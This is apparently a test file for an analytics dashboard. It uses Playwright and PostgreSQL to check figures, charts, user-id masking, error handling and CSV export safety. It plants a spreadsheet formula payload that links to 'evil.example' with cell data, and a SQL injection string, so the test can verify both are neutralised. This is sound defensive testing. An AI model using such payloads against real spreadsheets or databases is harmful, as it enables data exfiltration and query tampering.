@@ -1,0 +1,239 @@
+/**
+ * The analysts' dashboard in a real browser (Debian's Chromium through playwright-core), over a
+ * generated dataset that the real transform loaded into the file's own analytics database. Each page
+ * is loaded, its charts must have rendered with the expected series, and the numbers it shows are
+ * compared with SQL over the contract's views and tables (not with the panels' own SQL). Also: the
+ * analyst role never sees a raw user id or name, bad filters give a message and never a stack trace,
+ * CSV exports are guarded against formula injection, and the realtime page refreshes in place.
+ * Screenshots go to ETL_DASHBOARD_SCREENSHOTS (default .run/dashboard-screenshots).
+ */
+import { randomUUID } from 'node:crypto';
+import { mkdirSync, mkdtempSync, rmSync } from 'node:fs';
+import type { AddressInfo } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import type { Server } from 'node:http';
+import type { Pool } from 'pg';
+import type { Browser, Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { createDashboard } from '../../dashboard/server';
+import { dashboardPools } from '../../dashboard/start';
+import { PANELS } from '../../dashboard/panels';
+import { generateDataset } from '../../shop/generator';
+import { partitionAt } from '../../workflows/partitions';
+import { insertAlert } from '../../activities/common/alerts';
+import { runLoad } from '../../activities/common/loads';
+import { launchChromium } from '../support/browser';
+import { testEnv, type TestEnv } from '../support/env';
+import { runTransforms } from '../support/transform-run';
+import { seedStaging } from '../support/transform-seed';
+
+const START = '2026-08-20';
+const DAYS = 10;
+const SHOTS = process.env.ETL_DASHBOARD_SCREENSHOTS ?? join(process.cwd(), '.run', 'dashboard-screenshots');
+const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click me")';
+
+describe('the dashboard in a real browser, over data the transform loaded (real PostgreSQL, Temporal, S3, Chromium)', () => {
+  let env: TestEnv;
+  let pools: { analytics: Pool; staging: Pool };
+  let server: Server;
+  let base: string;
+  let browser: Browser;
+  let page: Page;
+  let dir: string;
+  let range: { from: string; to: string };
+  const owner = () => env.deps.analytics;
+  const one = async <T>(db: Pool, sql: string, params: unknown[] = []) => (await db.query(sql, params)).rows[0] as T;
+  const rowsOf = async (db: Pool, sql: string, params: unknown[] = []) => (await db.query(sql, params)).rows as Array<Record<string, unknown>>;
+
+  /** The table cells of a panel as the page shows them: one record per row, column -> text. */
+  const shown = (id: string) => page.$$eval(`#panel-${id} table.data tbody tr`, (trs) => trs.map((tr) => Object.fromEntries(
+    [...tr.querySelectorAll('td')].map((td) => [td.getAttribute('data-col') ?? '', td.textContent ?? '']))));
+  const chartSeries = (id: string) => page.$eval(`#panel-${id} .chart`, (el) => Number(el.getAttribute('data-series')));
+
+  async function open(path: string): Promise<number> {
+    const res = await page.goto(`${base}${path}`, { waitUntil: 'load' });
+    await expect.poll(() => page.locator('.chart:not([data-rendered="true"])').count(), { timeout: 20_000 }).toBe(0);
+    return res?.status() ?? 0;
+  }
+
+  beforeAll(async () => {
+    env = await testEnv('dashboard');
+    const prefix = `db${randomUUID().slice(0, 6)}-`;
+    dir = mkdtempSync(join(tmpdir(), 'etl-dashboard-'));
+    await generateDataset({ seed: 11, start: START, days: DAYS, scale: 0.02, dirt: 'default', out: dir });
+    const arrived = new Date('2026-09-10T12:30:00.000Z');
+    await seedStaging(env.deps.staging, dir, prefix, `test/${prefix}`, arrived);
+    await runTransforms(env, [partitionAt('transform', arrived)], `/test-${prefix}`);
+    // A product whose name a spreadsheet would run, among the sellers; and the realtime tables.
+    await owner().query(`update dim_product set product_name = $1 where product_id = (select product_id from product_sales order by units desc, product_id limit 1)`, [EVIL]);
+    await owner().query(`insert into realtime_minute (minute, events, active_users, orders, sessions_viewed, sessions_ordered, conversion, refreshed_at)
+      select m, 100 + i, 40 + i, i % 4, 30, i % 4, round((i % 4)::numeric / 30, 4), now()
+      from generate_series(1, 20) i, lateral (select timestamptz '2026-09-10 12:00Z' + i * interval '1 minute' as m) x`);
+    await owner().query(`insert into realtime_minute_events (minute, event_name, events)
+      select minute, n, case n when 'view' then events - 10 when 'add_to_cart' then 7 else 3 end from realtime_minute, unnest(array['view', 'add_to_cart', 'order']) n`);
+    await owner().query(`insert into realtime_alerts (alert_id, event_name, minute, last_minute, observed, expected, score, peak, raised_at)
+      values ('test/spike', 'view', '2026-09-10 12:15Z', '2026-09-10 12:16Z', 400, 95, 8.5, 400, now())`);
+    // Loads and an alert as the pipelines record them, for the health page.
+    for (const [pipeline, n] of [['orders', 3], ['files', 2]] as const) {
+      for (let i = 0; i < n; i++) await runLoad(env.deps.staging, { loadId: `${pipeline}/test-${prefix}${i}`, pipeline, source: pipeline }, async () => ({ received: 10 + i, loaded: 9, quarantined: 1, duplicates: i }));
+    }
+    await insertAlert(env.deps.staging, { alertId: `test/${prefix}failed`, pipeline: 'orders', kind: 'failed', message: 'orders partition failed (planted by the dashboard test)', workflowId: 'orders/2026-09-10T12:00', runId: 'run-1' });
+    const latest = await one<{ d: string }>(owner(), `select max(order_date)::text d from orders_by_date`);
+    range = { from: new Date(Date.parse(latest.d) - 29 * 86_400_000).toISOString().slice(0, 10), to: latest.d };
+
+    pools = dashboardPools(env.config);
+    server = createDashboard({ ...pools, temporalUi: { url: env.config.TEMPORAL_UI_URL, namespace: env.config.TEMPORAL_NAMESPACE }, log: () => undefined });
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+    browser = await launchChromium();
+    page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
+    mkdirSync(SHOTS, { recursive: true });
+  }, 300_000);
+
+  afterAll(async () => {
+    await browser?.close();
+    await new Promise((resolve) => (server ? server.close(resolve) : resolve(undefined)));
+    await Promise.all([pools?.analytics.end(), pools?.staging.end()]);
+    await env?.close();
+    if (dir) rmSync(dir, { recursive: true, force: true });
+  });
+
+  it('reads analytics as etl_analyst, which cannot read the table of names', async () => {
+    expect(await one(pools.analytics, 'select current_user as u')).toEqual({ u: 'etl_analyst' });
+    await expect(pools.analytics.query('select * from dim_customer limit 1')).rejects.toThrow(/permission denied/);
+  });
+
+  it('overview: the figures equal the contract tables, and both charts rendered', async () => {
+    expect(await open('/overview')).toBe(200);
+    const kpis = Object.fromEntries((await shown('overview-kpis')).map((r) => [r.metric, r.value]));
+    const r = [range.from, range.to];
+    const sales = await one<{ revenue: string; orders: string }>(pools.analytics, 'select sum(revenue) as revenue, sum(orders) as orders from orders_by_date where order_date between $1 and $2', r);
+    const aov = await one<{ v: string }>(pools.analytics, 'select round(sum(amount) / count(*), 2) as v from orders where not cancelled and order_date between $1 and $2', r);
+    const visitors = await one<{ v: string }>(pools.analytics, 'select round(sum(visitors)::numeric / ($2::date - $1::date + 1), 1) as v from daily_unique_visitors where event_date between $1 and $2', r);
+    expect(kpis).toEqual({ revenue: sales.revenue, orders: sales.orders, 'average order value': aov.v, 'unique visitors per day': visitors.v });
+    expect(Number(sales.orders)).toBeGreaterThan(50);
+
+    const months = await rowsOf(pools.analytics, `select month::text, revenue::text from monthly_revenue where month >= date_trunc('month', $1::date) - interval '11 months' and month <= $1 order by month`, [range.to]);
+    expect((await shown('monthly-revenue')).map((m) => ({ month: m.month, revenue: m.revenue }))).toEqual(months);
+    const days = await rowsOf(pools.analytics, 'select order_date::text, orders::text from orders_by_date where order_date between $1 and $2 order by 1', r);
+    expect((await shown('orders-by-date')).map((d) => ({ order_date: d.order_date, orders: d.orders }))).toEqual(days);
+    expect(await chartSeries('monthly-revenue')).toBe(1);
+    expect(await chartSeries('orders-by-date')).toBe(1);
+    expect(await page.$$eval('#panel-orders-by-date .chart svg path', (p) => p.length)).toBeGreaterThan(days.length);
+    await page.screenshot({ path: join(SHOTS, 'overview.png'), fullPage: true });
+  });
+
+  it('overview under a category and a country: the figures equal the facts of that segment', async () => {
+    const seg = await one<{ category: string; country: string }>(owner(), `select p.category_key as category, c.country from fact_order_line f join dim_product p using (product_id)
+      join dim_customer c using (customer_id) where not f.cancelled group by 1, 2 order by count(*) desc, 1, 2 limit 1`);
+    await open(`/overview?category=${encodeURIComponent(seg.category)}&country=${encodeURIComponent(seg.country)}`);
+    const kpis = Object.fromEntries((await shown('overview-kpis')).map((r) => [r.metric, r.value]));
+    const facts = await one<{ revenue: string; orders: string }>(owner(), `select sum(f.amount) filter (where not f.cancelled) as revenue, count(distinct (f.source, f.order_id))::text as orders
+      from fact_order_line f join dim_product p using (product_id) join dim_customer c using (customer_id)
+      where f.order_date between $1 and $2 and p.category_key = $3 and c.country = $4`, [range.from, range.to, seg.category, seg.country]);
+    expect({ revenue: kpis.revenue, orders: kpis.orders }).toEqual(facts);
+    expect(await page.inputValue('select[name=category]')).toBe(seg.category);
+    // The filter state is the URL: the nav keeps it, so the view can be shared.
+    expect(await page.$eval('nav a[href^="/products"]', (a) => a.getAttribute('href'))).toContain(`category=${encodeURIComponent(seg.category).replace(/%20/g, '+')}`);
+  });
+
+  it('products: the top 10 equal top_products_last_month, and the CSV export defuses a formula', async () => {
+    await open('/products');
+    const top = await rowsOf(pools.analytics, 'select rank::text, product_id, units::text, revenue::text from top_products_last_month t order by t.rank, t.product_id');
+    const listed = (await shown('top-products')).map((t) => ({ rank: t.rank, product_id: t.product_id, units: t.units, revenue: t.revenue }));
+    expect(listed).toEqual(top);
+    expect(await chartSeries('top-products')).toBe(1);
+    expect((await shown('top-products')).some((t) => t.product_name === EVIL)).toBe(true);
+    const csv = await (await fetch(`${base}/export/top-products.csv`)).text();
+    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click me"")"`);
+    expect(csv.split('\r\n').some((line) => /(^|,)=/.test(line))).toBe(false);
+    expect(csv.split('\r\n')[0]).toBe('rank,product_id,product_name,units,revenue');
+    const rankings = await shown('product-rankings');
+    expect(new Set(rankings.map((x) => x.ranking))).toEqual(new Set(['most sold', 'most wishlisted', 'most returned']));
+    await page.screenshot({ path: join(SHOTS, 'products.png'), fullPage: true });
+  });
+
+  it('inventory: a heatmap cell per category and month, and the lowest stock from the latest levels', async () => {
+    await open('/inventory');
+    const cells = await shown('turnover-heatmap');
+    expect(cells.length).toBeGreaterThan(0);
+    expect(await chartSeries('turnover-heatmap')).toBe(1);
+    const low = await rowsOf(owner(), `select product_id, sum(stock_level)::text as stock from (select distinct on (product_id, warehouse) product_id, stock_level
+      from work.inventory order by product_id, warehouse, updated_at desc) l group by 1 order by sum(stock_level), 1 limit 20`);
+    expect((await shown('low-stock')).map((l) => ({ product_id: l.product_id, stock: l.stock }))).toEqual(low);
+    await page.screenshot({ path: join(SHOTS, 'inventory.png'), fullPage: true });
+  });
+
+  it('customers and countries: country_summary and purchase_funnel, over a range that holds all the data', async () => {
+    const all = await one<{ from: string; to: string }>(pools.analytics, 'select min(order_date)::text as from, max(order_date)::text as to from orders_by_date');
+    await open(`/customers?from=${all.from}&to=${all.to}`);
+    const countries = await rowsOf(pools.analytics, 'select country, customers::text, orders::text, quantity::text, revenue::text, avg_quantity::text from country_summary s order by s.revenue desc, s.country');
+    expect((await shown('countries')).map(({ country, customers, orders, quantity, revenue, avg_quantity }) => ({ country, customers, orders, quantity, revenue, avg_quantity }))).toEqual(countries);
+    const funnel = await one<Record<string, string>>(pools.analytics, 'select sum(viewers)::text as viewers, sum(add_to_cart_users)::text as add_to_cart_users, sum(buyers)::text as buyers from purchase_funnel where event_date between $1 and $2', [all.from, all.to]);
+    const [f] = await shown('funnel');
+    expect({ viewers: f!.viewers, add_to_cart_users: f!.add_to_cart_users, buyers: f!.buyers }).toEqual(funnel);
+    expect((await shown('high-value-orders')).length).toBeGreaterThan(0);
+    await page.screenshot({ path: join(SHOTS, 'customers.png'), fullPage: true });
+  });
+
+  it('realtime: per-minute charts with the spike marked, refreshed in place without a reload', async () => {
+    await open('/realtime');
+    expect(await chartSeries('realtime-events')).toBe(3);
+    expect(await chartSeries('realtime-activity')).toBe(2);
+    expect(await page.$$eval('#panel-realtime-activity .chart svg text', (t) => t.some((x) => x.textContent === 'spike'))).toBe(true);
+    expect((await shown('realtime-activity')).length).toBe(20);
+    await page.evaluate('window.marker = 1');
+    await owner().query(`insert into realtime_minute (minute, events, active_users, orders, sessions_viewed, sessions_ordered, conversion, refreshed_at)
+      values ('2026-09-10 12:21Z', 999, 77, 1, 30, 1, 0.0333, now())`);
+    await page.locator('#panel-realtime-activity td[data-col=events]', { hasText: /^999$/ }).waitFor({ timeout: 20_000 });
+    expect(await page.evaluate('window.marker')).toBe(1); // the same page: no reload
+    await page.screenshot({ path: join(SHOTS, 'realtime.png'), fullPage: true });
+  });
+
+  it('pipeline health: the loads per pipeline equal etl.loads, with freshness', async () => {
+    await open('/health');
+    const loads = await rowsOf(env.deps.staging, `select pipeline, count(*)::text as loads from etl.loads where finished_at > now() - interval '24 hours' group by 1 order by 1`);
+    expect(loads.length).toBeGreaterThan(0);
+    expect((await shown('pipeline-freshness')).map((p) => ({ pipeline: p.pipeline, loads: p.loads_24h }))).toEqual(loads);
+    expect((await shown('pipeline-freshness')).every((p) => Number(p.age_seconds) >= 0 && p.last_load !== '')).toBe(true);
+    const received = await one<{ n: string }>(env.deps.staging, `select sum(received)::text n from etl.loads where pipeline = 'orders'`);
+    expect((await shown('pipeline-freshness')).find((p) => p.pipeline === 'orders')?.received_24h).toBe(received.n);
+    const link = await page.getAttribute('#panel-alerts td[data-col=workflow_id] a', 'href');
+    expect(link).toBe(`${env.config.TEMPORAL_UI_URL}/namespaces/${env.config.TEMPORAL_NAMESPACE}/workflows/${encodeURIComponent('orders/2026-09-10T12:00')}/run-1/history`);
+    await page.screenshot({ path: join(SHOTS, 'health.png'), fullPage: true });
+  });
+
+  it('never shows a raw user id or an unmasked name, on any page or in any export', async () => {
+    const users = await rowsOf(env.deps.staging, 'select user_id, user_name from staging.users');
+    const secrets = users.flatMap((u) => [String(u.user_id), ...(typeof u.user_name === 'string' && u.user_name.trim().length > 3 ? [u.user_name.trim()] : [])]);
+    expect(secrets.length).toBeGreaterThan(100);
+    const bodies = [
+      ...await Promise.all(['overview', 'products', 'inventory', 'customers', 'realtime', 'health'].map(async (p) => (await fetch(`${base}/${p}`)).text())),
+      ...await Promise.all(PANELS.map(async (p) => (await fetch(`${base}/export/${p.id}.csv`)).text())),
+    ];
+    for (const body of bodies) for (const s of secrets) if (body.includes(s)) throw new Error(`the dashboard shows ${JSON.stringify(s)}, a raw user id or name`);
+  });
+
+  it('bad filters: a clear message on the page, never a stack trace', async () => {
+    expect(await open('/overview?from=2026-13-45')).toBe(400);
+    expect(await page.textContent('.problem')).toBe('from must be a date as YYYY-MM-DD, got "2026-13-45".');
+    expect(await open(`/overview?from=${range.to}&to=${range.from}`)).toBe(400);
+    expect(await page.textContent('.problem')).toBe(`The range is reversed: from ${range.to} is after to ${range.from}.`);
+    expect(await open('/overview?from=1990-01-01&to=1990-01-31')).toBe(200);
+    expect(await page.textContent('.notice')).toMatch(/^No orders between 1990-01-01 and 1990-01-31: the data covers \d{4}-\d{2}-\d{2} to /);
+    const hostile = await fetch(`${base}/export/countries.csv?country=${encodeURIComponent("x' or '1'='1")}`);
+    expect(hostile.status).toBe(200);
+    expect((await hostile.text()).trim()).toBe('country,customers,orders,quantity,revenue,avg_quantity');
+    const body = await (await fetch(`${base}/products?to=tomorrow`)).text();
+    expect(body).not.toMatch(/\n\s+at |Error:/);
+    expect((await fetch(`${base}/nowhere`)).status).toBe(404);
+  });
+
+  it('fits a phone screen: nothing wider than the viewport', async () => {
+    await page.setViewportSize({ width: 390, height: 844 });
+    await open('/overview');
+    expect(await page.evaluate('document.documentElement.scrollWidth')).toBeLessThanOrEqual(390);
+    await page.setViewportSize({ width: 1280, height: 900 });
+  });
+});
